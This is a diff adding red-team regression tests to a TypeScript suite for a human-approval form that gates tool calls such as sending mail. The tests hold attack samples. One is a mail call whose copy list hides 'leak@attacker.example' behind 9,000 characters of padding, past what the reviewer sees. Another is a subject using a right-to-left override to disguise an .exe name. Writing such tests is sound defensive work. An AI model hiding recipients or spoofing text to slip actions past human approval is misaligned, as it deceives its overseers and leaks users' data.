@@ -345,6 +345,75 @@ describe("attacks by the client on the form", () => {
   })
 })
 
+describe("what the form shows is what runs (found by a red-team pass; each failed before its fix)", () => {
+  it.scoped("a payload past the message's cut can only be rejected: no field, no approve, and an approve delivers nothing", () => {
+    const delivered: Array<unknown> = []
+    const SendCc = Tool.send("mail.sendCc", {
+      title: "Send a mail with copies",
+      description: "Sends a mail, copied to a list.",
+      input: Schema.Struct({ text: Schema.String, cc: Schema.Array(Schema.String) }),
+      payload: Schema.Struct({ text: Schema.String, cc: Schema.Array(Schema.String) }),
+      output: Schema.Struct({ ok: Schema.Boolean }),
+      prepare: (input) => Effect.succeed(input),
+      deliver: ({ payload }) => Effect.sync(() => (delivered.push(payload), { ok: true }))
+    })
+    const audit = Audit.memory()
+    return Effect.gen(function*() {
+      const { client, forms } = yield* session(Registry.make(Toolkit.make(SendCc)), approve())
+      // The copy list comes after 9,000 characters of text: past the cut, in no field.
+      const result = yield* Effect.promise(() =>
+        client.callTool({
+          name: "mail__sendCc",
+          arguments: { text: `Hello.${" ".repeat(9_000)}`, cc: ["team@example.com", "leak@attacker.example"] }
+        })
+      )
+      expect(forms[0]!.message).toContain("more characters not shown: this form can only reject it")
+      expect(JSON.stringify(forms[0]).includes("leak@attacker.example")).toBe(false)
+      expect(forms[0]!.requestedSchema.properties).toEqual({
+        "graded/decision": { type: "string", title: "Your decision", enum: ["reject"] },
+        "graded/reason": { type: "string", title: "Reason (when you reject)" }
+      })
+      expect(result.isError).toBe(true)
+      expect(delivered).toEqual([])
+      const decided = audit.entries.find((entry) => entry.type === "decided")
+      expect(decided).toMatchObject({ decision: "rejected" })
+      expect(decided?.reason).toMatch(/^approval refused: the form showed the payload only in part \(\d+ characters/)
+    }).pipe(Effect.provide(Layer.merge(ProposalStore.memory, audit.layer)))
+  })
+
+  it.scoped("a field whose value hides or reorders text is not offered raw for editing: it stays in the escaped message", () => {
+    const desk = makeDesk()
+    return Effect.gen(function*() {
+      const { client, forms } = yield* session(desk.registry, () => ({ action: "decline" }))
+      yield* Effect.promise(() =>
+        client.callTool({ name: "ticket__submit", arguments: { subject: "invoice\u202Efdp.exe" } })
+      )
+      expect(Object.keys(forms[0]!.requestedSchema.properties)).toEqual(["graded/decision", "graded/reason"])
+      expect(JSON.stringify(forms[0]!.requestedSchema).includes("\u202E")).toBe(false)
+      expect(forms[0]!.message).toContain("invoice\\u202Efdp.exe")
+    }).pipe(Effect.provide(ProposalStore.memory))
+  })
+
+  it.scoped("an approval with fields unchanged, for a payload with fields named constructor and toString, runs as shown", () => {
+    const ran: Array<unknown> = []
+    const Label = Tool.write("ticket.label", {
+      title: "Label a ticket",
+      description: "Labels a ticket.",
+      input: Schema.Struct({ constructor: Schema.String, toString: Schema.String }),
+      output: Schema.Struct({ ok: Schema.Boolean }),
+      run: (payload) => Effect.sync(() => (ran.push(payload), { ok: true }))
+    })
+    return Effect.gen(function*() {
+      const { client } = yield* session(Registry.make(Toolkit.make(Label)), approve())
+      const result = yield* Effect.promise(() =>
+        client.callTool({ name: "ticket__label", arguments: { constructor: "a", toString: "b" } })
+      )
+      expect(result.isError).toBeFalsy()
+      expect(ran).toEqual([{ constructor: "a", toString: "b" }])
+    }).pipe(Effect.provide(ProposalStore.memory))
+  })
+})
+
 describe("the form over real transports", () => {
   it.scoped("Streamable HTTP: approve and reject through the form", () => {
     const desk = makeDesk()
